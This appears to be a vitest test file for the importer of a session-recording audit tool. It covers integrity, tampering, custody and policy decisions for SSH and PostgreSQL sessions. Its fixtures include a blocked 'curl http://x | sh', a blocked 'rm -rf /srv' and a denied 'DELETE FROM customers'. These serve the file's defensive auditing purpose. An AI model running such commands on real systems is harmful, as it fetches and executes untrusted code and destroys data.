import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { generateSigner, trustedKeysOf } from '../../common/keys.js';
import { TempDir, buildRecording, rechain, withField } from '../../common/recording/testing/recordings.js';
import { caseDb, PENDING_HASH, openCase, type CaseFile } from '../store/case.js';
import { listSessions } from '../store/queries.js';
import { FixtureRecording, T0, writeScenario, type Scenario } from '../testing/scenario.js';
import { importFile } from './importer.js';
import { findRecordings, importPaths } from './paths.js';
import { writeThreadAvailable } from './sink.js';

let tmp: TempDir;
let c: CaseFile;
let sc: Scenario;

beforeEach(() => {
  tmp = new TempDir();
  sc = writeScenario(tmp.path);
  c = openCase(join(tmp.path, 'case.db'));
});
afterEach(() => {
  c.close();
  tmp.remove();
});

const count = (sql: string, ...args: unknown[]) => (caseDb(c).prepare(sql).get(...args) as { n: number }).n;

describe('import', () => {
  it('imports a folder of recordings with derived rows, custody and lineage', async () => {
    const summary = await importPaths(c, findRecordings([tmp.path]), { trusted: sc.trusted });
    expect(summary).toMatchObject({ imported: 3, unchanged: 0, conflicts: 0, rejected: 0, failed: 0, allIntact: true });
    const sessions = listSessions(c);
    expect(sessions.map((s) => [s.id, s.parent, s.linkKind, s.rootIdentity, s.depth, s.integrity])).toEqual([
      [sc.ids.root, null, null, 'contractor-ci', 0, 'intact'],
      [sc.ids.pg, sc.ids.root, 'hop-token', 'contractor-ci', 1, 'intact'],
      [sc.ids.ssh2, sc.ids.root, 'address-time', 'contractor-ci', 1, 'intact'],
    ]);
    const files = caseDb(c).prepare('SELECT path, sha256, size, integrity, sealed, key_trusted FROM files ORDER BY path').all() as
      { path: string; sha256: string; size: number; integrity: string; sealed: number; key_trusted: number }[];
    expect(files).toHaveLength(3);
    for (const f of files) {
      expect(f.sha256).toMatch(/^[0-9a-f]{64}$/);
      expect(f.size).toBe(readFileSync(f.path).length);
      expect([f.integrity, f.sealed, f.key_trusted]).toEqual(['intact', 1, 1]);
    }
    expect(caseDb(c).prepare('SELECT inferred, evidence FROM hops WHERE child = ?').get(sc.ids.ssh2))
      .toEqual({ inferred: 1, evidence: JSON.stringify({ clientAddress: '10.0.0.9', parentTarget: 'build-host', parentLive: true }) });
    // Typed lines rebuilt with their edits; FTS5 finds statements and commands.
    const lines = (caseDb(c).prepare("SELECT text FROM statements WHERE session = ? AND kind = 'line' ORDER BY seq").all(sc.ids.root) as { text: string }[]).map((r) => r.text);
    expect(lines).toEqual(['ls -la', 'psql -c "select email, ssn from customers"', 'ssh jump-host uname -a']);
    const hits = caseDb(c).prepare("SELECT s.session, s.kind FROM statements_fts f JOIN statements s ON s.id = f.rowid WHERE statements_fts MATCH 'customers' ORDER BY s.session, s.seq").all();
    expect(hits).toEqual([{ session: sc.ids.root, kind: 'line' }, { session: sc.ids.pg, kind: 'sql' }, { session: sc.ids.pg, kind: 'sql' }, { session: sc.ids.pg, kind: 'sql' }]);
    // Masked email, unmasked values that look like SSNs, a block and a denied approval.
    expect(caseDb(c).prepare('SELECT field, rule, masked, count FROM sensitive_fields WHERE session = ? ORDER BY field').all(sc.ids.pg)).toEqual([
      { field: 'email', rule: 'email', masked: 1, count: 2 },
      { field: 'ssn', rule: 'looks-sensitive:value', masked: 0, count: 2 },
    ]);
    expect(caseDb(c).prepare('SELECT action, rule, approval_id FROM policy_decisions WHERE session = ? ORDER BY seq').all(sc.ids.pg)).toEqual([
      { action: 'block', rule: 'no-drop', approval_id: null },
      { action: 'review', rule: 'unbounded-write', approval_id: 'apr-1' },
      { action: 'denied', rule: null, approval_id: 'apr-1' },
    ]);
    expect(caseDb(c).prepare('SELECT action, rule, approval_id, actor FROM policy_decisions WHERE session = ? ORDER BY seq').all(sc.ids.ssh2)).toEqual([
      { action: 'block', rule: 'no-pipe-to-shell', approval_id: null, actor: null },
      { action: 'review', rule: 'restarts', approval_id: null, actor: null },
      { action: 'approved', rule: 'restarts', approval_id: 'apr-2', actor: 'alice' },
    ]);
    expect(caseDb(c).prepare('SELECT field, rule, masked, count FROM sensitive_fields WHERE session = ?').all(sc.ids.ssh2))
      .toEqual([{ field: 'stdout', rule: 'api-key', masked: 1, count: 1 }]);
    expect(caseDb(c).prepare('SELECT id, status, approver, operation, waited_micros, decided_t - requested_t AS waited FROM approvals ORDER BY id').all()).toEqual([
      { id: 'apr-1', status: 'denied', approver: 'alice', operation: 'DELETE FROM customers', waited_micros: 4_000_000, waited: 1000 },
      { id: 'apr-2', status: 'approved', approver: 'alice', operation: 'systemctl restart app', waited_micros: 2_000_000, waited: 2_000_000 },
    ]);
    expect(caseDb(c).prepare("SELECT action FROM policy_decisions WHERE session = ?").all(sc.ids.root)).toEqual([{ action: 'revoked' }]);
    expect(count('SELECT count(*) AS n FROM keyframes WHERE session = ?', sc.ids.root)).toBe(1);
  });

  it('is idempotent: re-importing the same file is a no-op recorded in custody', async () => {
    await importPaths(c, [sc.files.pg], { trusted: sc.trusted });
    const events = count('SELECT count(*) AS n FROM events');
    const again = await importFile(c, sc.files.pg, { trusted: sc.trusted });
    expect(again).toMatchObject({ action: 'unchanged', session: sc.ids.pg, integrity: 'intact', sealed: true });
    expect(count('SELECT count(*) AS n FROM events')).toBe(events);
    expect(count('SELECT count(*) AS n FROM statements')).toBe(3);
    expect((caseDb(c).prepare('SELECT action FROM custody ORDER BY id').all() as { action: string }[]).map((r) => r.action)).toEqual(['imported', 'unchanged']);
  });

  it('reports a changed file with the same session id as a conflict and keeps the first', async () => {
    await importFile(c, sc.files.pg, { trusted: sc.trusted });
    const lines = readFileSync(sc.files.pg, 'utf8').split('\n');
    const changed = tmp.write('changed.jsonl', `${lines.slice(0, 4).join('\n')}\n`); // a shorter, unsealed copy
    const r = await importFile(c, changed, { trusted: sc.trusted });
    expect(r.action).toBe('conflict');
    expect(r.message).toMatch(new RegExp(`session ${sc.ids.pg} was already imported from .*; not merged`));
    expect(count('SELECT count(*) AS n FROM files')).toBe(1);
    expect(count('SELECT count(*) AS n FROM custody WHERE action = ?', 'conflict')).toBe(1);
  });

  it('lets the finished file supersede an unsealed copy of its beginning, and nothing else', async () => {
    const lines = readFileSync(sc.files.pg, 'utf8').split('\n');
    const early = tmp.write('early.jsonl', `${lines.slice(0, 4).join('\n')}\n`); // copied while the gateway ran
    expect(await importFile(c, early, { trusted: sc.trusted })).toMatchObject({ action: 'imported', integrity: 'unverified' });
    const full = await importFile(c, sc.files.pg, { trusted: sc.trusted });
    expect(full).toMatchObject({ action: 'imported', integrity: 'intact', sealed: true, message: expect.stringMatching(/^supersedes .*early\.jsonl/) });
    expect(count("SELECT count(*) AS n FROM files WHERE state = 'complete'")).toBe(1);
    expect(count('SELECT count(*) AS n FROM sessions WHERE id = ?', sc.ids.pg)).toBe(1);
    expect(count('SELECT count(*) AS n FROM statements')).toBe(3);
    // A different unsealed copy (same length, other bytes) is still a conflict.
    const forged = tmp.write('forged.jsonl', `${lines.slice(0, 3).join('\n')}\n${lines[3]!.replace('SELECT', 'SELEC')}\n`);
    expect((await importFile(c, forged, { trusted: sc.trusted })).action).toBe('conflict');
  });

  it('keeps the intact prefix of a truncated file and flags it', async () => {
    const rec = buildRecording({ events: 10 });
    const file = tmp.write('torn.jsonl', `${rec.lines.slice(0, 9).join('\n')}\n${rec.lines[9]!.slice(0, 25)}`);
    const r = await importFile(c, file, { trusted: rec.trusted });
    expect(r).toMatchObject({ action: 'imported', integrity: 'unverified', sealed: false, events: 8 });
    expect(r.findings.map((f) => f.kind)).toEqual(['truncated', 'unsealed']);
    expect(count('SELECT count(*) AS n FROM events WHERE session = ? AND intact = 1', 'sess-1')).toBe(8);
    expect(caseDb(c).prepare('SELECT intact_through, signed_through FROM files').get()).toEqual({ intact_through: 8, signed_through: 6 });
    expect(listSessions(c)[0]!.integrity).toBe('unverified');
  });

  it('surfaces tampering as findings and marks events after the break', async () => {
    const rec = buildRecording();
    const tampered = rec.lines.map((l, i) => (i === 8 ? withField(l, 'data', { sql: 'select 666' }) : l));
    const file = tmp.writeLines('tampered.jsonl', tampered);
    const r = await importFile(c, file, { trusted: rec.trusted });
    expect(r).toMatchObject({ action: 'imported', integrity: 'tampered', sealed: false });
    expect(r.findings[0]).toMatchObject({ kind: 'altered', seq: 8 });
    expect(caseDb(c).prepare('SELECT kind, seq FROM findings ORDER BY rowid LIMIT 1').get()).toEqual({ kind: 'altered', seq: 8 });
    // The altered event itself is found at the next one's link, after it was stored: it is not intact either.
    expect(caseDb(c).prepare('SELECT intact_through FROM files').get()).toEqual({ intact_through: 7 });
    expect(count('SELECT count(*) AS n FROM events WHERE intact = 0')).toBe(rec.lines.length - 8);
    expect(count('SELECT max(seq) AS n FROM events WHERE intact = 1')).toBe(7);
  });

  it('detects a broken line in the middle of a long recording, across batches, and flags everything after it', async () => {
    // 3,000 events in batches of 100 rows (multi-row inserts and their remainders): line 1,500 is cut short.
    const rec = buildRecording({ events: 3000, checkpointEvery: 250 });
    const broken = rec.lines.map((l, i) => (i === 1500 ? l.slice(0, 40) : l));
    const file = tmp.writeLines('broken.jsonl', broken);
    const r = await importFile(c, file, { trusted: rec.trusted, batchRows: 100 });
    expect(r).toMatchObject({ action: 'imported', integrity: 'tampered', sealed: false, events: rec.lines.length - 2 });
    expect(r.findings.map((f) => [f.kind, f.line])).toEqual([['corrupt-line', 1501], ['missing', 1502]]);
    const f = caseDb(c).prepare('SELECT intact_through, signed_through, state FROM files').get() as { intact_through: number; signed_through: number; state: string };
    expect(f).toEqual({ intact_through: 1499, signed_through: 1256, state: 'complete' }); // the last checkpoint before the break
    expect(count('SELECT count(*) AS n FROM events WHERE intact = 1')).toBe(1499);
    expect(count('SELECT count(*) AS n FROM events WHERE intact = 1 AND seq > 1499')).toBe(0);
    expect(count('SELECT count(*) AS n FROM events WHERE seq = 1500')).toBe(0);
    expect(listSessions(c)[0]!.integrity).toBe('tampered');
    // Seen from a reader, the session is only there once its import is complete, with its integrity.
    expect(count("SELECT count(*) AS n FROM sessions s JOIN files f ON f.id = s.file_id WHERE f.state != 'complete'")).toBe(0);
  });

  it('takes the intact flag back from events covered by a forged checkpoint', async () => {
    const rec = buildRecording({ events: 12, checkpointEvery: 4 });
    // An attacker without the key rewrote seq 8 and re-chained the rest: the checkpoint after it (seq 11) fails.
    const forged = rechain(rec.lines.map((l, i) => (i === 8 ? withField(l, 'data', { sql: 'select 666' }) : l)), 8);
    const r = await importFile(c, tmp.writeLines('forged.jsonl', forged), { trusted: rec.trusted });
    expect(r).toMatchObject({ integrity: 'tampered' });
    expect(r.findings.map((x) => [x.kind, x.seq])).toContainEqual(['bad-signature', 11]);
    expect(caseDb(c).prepare('SELECT intact_through, signed_through FROM files').get()).toEqual({ intact_through: 6, signed_through: 6 });
    expect(count('SELECT max(seq) AS n FROM events WHERE intact = 1')).toBe(6);
  });

  it('keeps the first of two events with the same seq inside one multi-row insert', async () => {
    const rec = buildRecording({ events: 150, checkpointEvery: 0 });
    const twin = withField(rec.lines[40]!, 'data', { sql: 'select twin' });
    const lines = [...rec.lines.slice(0, 41), twin, ...rec.lines.slice(41)];
    const r = await importFile(c, tmp.writeLines('twin.jsonl', lines), { trusted: rec.trusted });
    expect(r.findings.map((f) => f.kind)).toContain('duplicated');
    expect(count('SELECT count(*) AS n FROM events')).toBe(rec.lines.length - 1);
    expect(caseDb(c).prepare('SELECT data FROM events WHERE seq = 40').get()).toEqual({ data: '{"sql":"select 39"}' });
    expect(caseDb(c).prepare('SELECT text FROM statements WHERE seq = 40').get()).toEqual({ text: 'select 39' });
  });

  it('records the SHA-256 and size of exactly the bytes it read, in one pass', async () => {
    const rec = buildRecording({ events: 20_000, checkpointEvery: 1000, data: (i) => ({ sql: `select ${'x'.repeat(i % 300)}` }) });
    const file = tmp.writeLines('long.jsonl', rec.lines);
    const bytes = readFileSync(file);
    const r = await importFile(c, file, { trusted: rec.trusted });
    expect(r).toMatchObject({ action: 'imported', integrity: 'intact', sha256: createHash('sha256').update(bytes).digest('hex'), size: bytes.length });
    expect(caseDb(c).prepare('SELECT sha256, size FROM files').get()).toEqual({ sha256: r.sha256, size: bytes.length });
    expect(caseDb(c).prepare('SELECT sha256, size FROM custody').get()).toEqual({ sha256: r.sha256, size: bytes.length });
    expect(count('SELECT count(*) AS n FROM statements_fts')).toBe(20_000);
  });

  it('updates the lineage of sessions imported before their parent', async () => {
    for (const file of [sc.files.ssh2, sc.files.pg]) await importFile(c, file, { trusted: sc.trusted });
    expect(listSessions(c).map((s) => [s.id, s.rootIdentity, s.depth])).toEqual([
      [sc.ids.pg, 'contractor-ci', 1], [sc.ids.ssh2, 'contractor-ci', 1],
    ].map(([id, , depth]) => [id, expect.anything(), depth]));
    await importFile(c, sc.files.root, { trusted: sc.trusted });
    expect(listSessions(c).map((s) => [s.id, s.rootIdentity, s.depth])).toEqual([
      [sc.ids.root, 'contractor-ci', 0], [sc.ids.pg, 'contractor-ci', 1], [sc.ids.ssh2, 'contractor-ci', 1],
    ]);
  });

  it('rejects a non-recording with a clear message and goes on with the next file', async () => {
    const junk = tmp.write('junk.jsonl', 'hello\nworld\n');
    const empty = tmp.write('empty.jsonl', '');
    const s = await importPaths(c, [junk, empty, sc.files.ssh2], { trusted: sc.trusted });
    expect(s.files.map((f) => [f.action, f.message])).toEqual([
      ['rejected', 'the first line is not JSON: not a hopscope recording'],
      ['rejected', 'the file is empty'],
      ['imported', null],
    ]);
    expect(s.allIntact).toBe(false);
  });

  it('imports a file from an unknown key flagged, or rejects it with requireKnownKey', async () => {
    const other = trustedKeysOf([generateSigner().publicKey]);
    const flagged = await importFile(c, sc.files.ssh2, { trusted: other });
    expect(flagged).toMatchObject({ action: 'imported', integrity: 'unknown-key' });
    expect(caseDb(c).prepare('SELECT key_trusted FROM files').get()).toEqual({ key_trusted: 0 });
    const strict = await importFile(c, sc.files.pg, { trusted: other, requireKnownKey: true });
    expect(strict.action).toBe('rejected');
    expect(strict.message).toMatch(/not trusted \(--require-known-key\)/);
    expect(count('SELECT count(*) AS n FROM sessions WHERE id = ?', sc.ids.pg)).toBe(0);
  });

  it('leaves no half-imported session when a batch fails', async () => {
    // A trigger makes the second batch fail, as a full disk would.
    caseDb(c).exec("CREATE TEMP TRIGGER boom BEFORE INSERT ON events WHEN new.seq = 7 BEGIN SELECT RAISE(FAIL, 'disk I/O error'); END");
    const r = await importFile(c, sc.files.root, { trusted: sc.trusted, batchRows: 3 });
    expect(r.action).toBe('failed');
    expect(r.message).toMatch(/disk I\/O error/);
    for (const table of ['files', 'sessions', 'events', 'statements', 'keyframes']) expect(count(`SELECT count(*) AS n FROM ${table}`)).toBe(0);
    expect(count("SELECT count(*) AS n FROM custody WHERE action = 'failed'")).toBe(1);
  });

  it('writes on a second thread exactly the rows written on the case connection', async () => {
    // The worker is the compiled one (dist/): run `npx tsc -p tsconfig.json` if this fails.
    expect(await writeThreadAvailable()).toBe(true);
    const rec = buildRecording({ events: 3000, checkpointEvery: 250 });
    const file = tmp.writeLines('long.jsonl', rec.lines.map((l, i) => (i === 2000 ? withField(l, 'data', { sql: 'select 666' }) : l)));
    const dump = (cf: CaseFile) => ['events', 'statements', 'results', 'files'].map((t) =>
      caseDb(cf).prepare(`SELECT * FROM ${t} ORDER BY 1, 2`).all().map((r) => ({ ...(r as object), imported_at: 0, path: 0 })));
    const threaded = await importFile(c, file, { trusted: rec.trusted, batchRows: 100 });
    const other = openCase(join(tmp.path, 'inline.db'));
    try {
      const inline = await importFile(other, file, { trusted: rec.trusted, batchRows: 100, writeThread: false });
      expect(threaded).toEqual(inline);
      expect(threaded).toMatchObject({ action: 'imported', integrity: 'tampered' });
      expect(dump(c)).toEqual(dump(other));
    } finally {
      other.close();
    }
  });

  it('leaves no half-imported session when the write thread fails, and says why', async () => {
    expect(await writeThreadAvailable()).toBe(true);
    // A trigger in the case file (seen by every connection, unlike a TEMP one) fails a later batch.
    caseDb(c).exec("CREATE TRIGGER boom BEFORE INSERT ON events WHEN new.seq = 1234 BEGIN SELECT RAISE(FAIL, 'disk I/O error'); END");
    const rec = buildRecording({ events: 3000, checkpointEvery: 250 });
    const file = tmp.writeLines('long.jsonl', rec.lines);
    const r = await importFile(c, file, { trusted: rec.trusted, batchRows: 100 });
    expect(r.action).toBe('failed');
    expect(r.message).toMatch(/disk I\/O error/);
    for (const table of ['files', 'sessions', 'events', 'statements', 'findings']) expect(count(`SELECT count(*) AS n FROM ${table}`)).toBe(0);
    expect(count("SELECT count(*) AS n FROM custody WHERE action = 'failed'")).toBe(1);
    caseDb(c).exec('DROP TRIGGER boom');
    expect(await importFile(c, file, { trusted: rec.trusted, batchRows: 100 })).toMatchObject({ action: 'imported', integrity: 'intact', events: rec.lines.length - 1 });
  });

  it('sweeps an import that crashed before its file was read to the end, with no SHA-256 in custody', async () => {
    const file = tmp.write('half.jsonl', 'x');
    caseDb(c).prepare(`INSERT INTO files(path, sha256, size, imported_at, session_id, integrity, state)
      VALUES (?, ?, 1, 0, 'half-1', 'importing', 'importing')`).run(file, `${PENDING_HASH}1234`);
    c.close();
    c = openCase(join(tmp.path, 'case.db'));
    expect(count('SELECT count(*) AS n FROM files')).toBe(0);
    expect(caseDb(c).prepare("SELECT sha256, session_id, detail FROM custody WHERE action = 'failed'").get())
      .toEqual({ sha256: null, session_id: 'half-1', detail: 'an interrupted import was rolled back' });
  });

  it('sweeps an import that crashed half-way when the case is opened again', async () => {
    await importFile(c, sc.files.pg, { trusted: sc.trusted });
    caseDb(c).prepare("UPDATE files SET state = 'importing'").run();
    c.close();
    c = openCase(join(tmp.path, 'case.db'));
    expect(count('SELECT count(*) AS n FROM events')).toBe(0);
    expect(count('SELECT count(*) AS n FROM sessions')).toBe(0);
    expect(caseDb(c).prepare("SELECT detail FROM custody WHERE action = 'failed'").get()).toEqual({ detail: 'an interrupted import was rolled back' });
    // And the file imports cleanly afterwards.
    expect((await importFile(c, sc.files.pg, { trusted: sc.trusted })).action).toBe('imported');
  });

  it('stores unknown event types as events, without failing', async () => {
    const rec = new FixtureRecording('future-1', 'ssh', sc.signer, T0);
    rec.event('session.start', { identity: 'bot', target: 'box', protocol: 'ssh' });
    rec.event('ssh.port-forward', { host: 'db.internal', port: 5432, allowedBy: 'rule-7' });
    rec.event('quantum.thing', { nested: { deep: [1, 2, 3] } });
    rec.event('session.end', { reason: 'done' });
    const r = await importFile(c, rec.write(join(tmp.path, 'future.jsonl')), { trusted: sc.trusted });
    expect(r).toMatchObject({ action: 'imported', integrity: 'intact', events: 5 });
    expect(caseDb(c).prepare("SELECT type, data FROM events WHERE session = 'future-1' AND seq IN (2, 3) ORDER BY seq").all()).toEqual([
      { type: 'ssh.port-forward', data: '{"host":"db.internal","port":5432,"allowedBy":"rule-7"}' },
      { type: 'quantum.thing', data: '{"nested":{"deep":[1,2,3]}}' },
    ]);
  });

  it('reads SSH refusals and approvals from the policy lifecycle events: one decision per refusal, tied to its command', async () => {
    // What the gateway writes since the SSH channel uses the same lifecycle as PostgreSQL (the scenario keeps the older ssh.policy form).
    const rec = new FixtureRecording('lifecycle-1', 'ssh', sc.signer, T0);
    rec.event('session.start', { identity: 'bot', target: 'box', protocol: 'ssh' });
    const blocked = rec.event('ssh.exec', { channel: 0, command: 'curl http://x | sh', pty: false, action: 'block', rule: 'no-pipe-to-shell', reason: 'pipe to shell' });
    rec.event('policy.block', { statement: blocked, rule: 'no-pipe-to-shell', reason: 'pipe to shell', action: 'block', channel: 0 });
    const line = rec.event('ssh.line', { channel: 1, line: 'rm -rf /srv', uncertain: false, action: 'block', rule: 'no-rm', reason: 'rm' });
    const held = rec.event('ssh.exec', { channel: 2, command: 'systemctl restart app', pty: false, action: 'review', rule: 'restarts' });
    rec.event('approval.requested', { statement: held, id: 'apr-9', rule: 'restarts', reason: 'restarts', operation: 'systemctl restart app', channel: 2 });
    rec.event('approval.decided', { statement: held, id: 'apr-9', decision: 'denied', approver: 'alice', reason: 'not now', waitedMicros: 7, channel: 2 });
    rec.event('policy.block', { statement: held, rule: 'restarts', reason: 'restarts', action: 'review', channel: 2, approval: 'apr-9', decision: 'denied' });
    rec.event('session.end', { reason: 'done' });
    await importFile(c, rec.write(join(tmp.path, 'lifecycle.jsonl')), { trusted: sc.trusted });
    expect(caseDb(c).prepare("SELECT statement, action, rule, approval_id, actor, message FROM policy_decisions WHERE session = 'lifecycle-1' ORDER BY seq").all()).toEqual([
      { statement: blocked, action: 'block', rule: 'no-pipe-to-shell', approval_id: null, actor: null, message: 'pipe to shell' },
      // A line blocked in a recording without its policy.block (older recordings) keeps the line's own decision.
      { statement: line, action: 'block', rule: 'no-rm', approval_id: null, actor: null, message: 'rm -rf /srv' },
      { statement: held, action: 'review', rule: 'restarts', approval_id: 'apr-9', actor: null, message: 'restarts' },
      { statement: held, action: 'denied', rule: null, approval_id: 'apr-9', actor: 'alice', message: 'not now' },
    ]);
    expect(caseDb(c).prepare("SELECT id, statement, status, approver, operation FROM approvals WHERE session = 'lifecycle-1'").all())
      .toEqual([{ id: 'apr-9', statement: held, status: 'denied', approver: 'alice', operation: 'systemctl restart app' }]);
  });
});
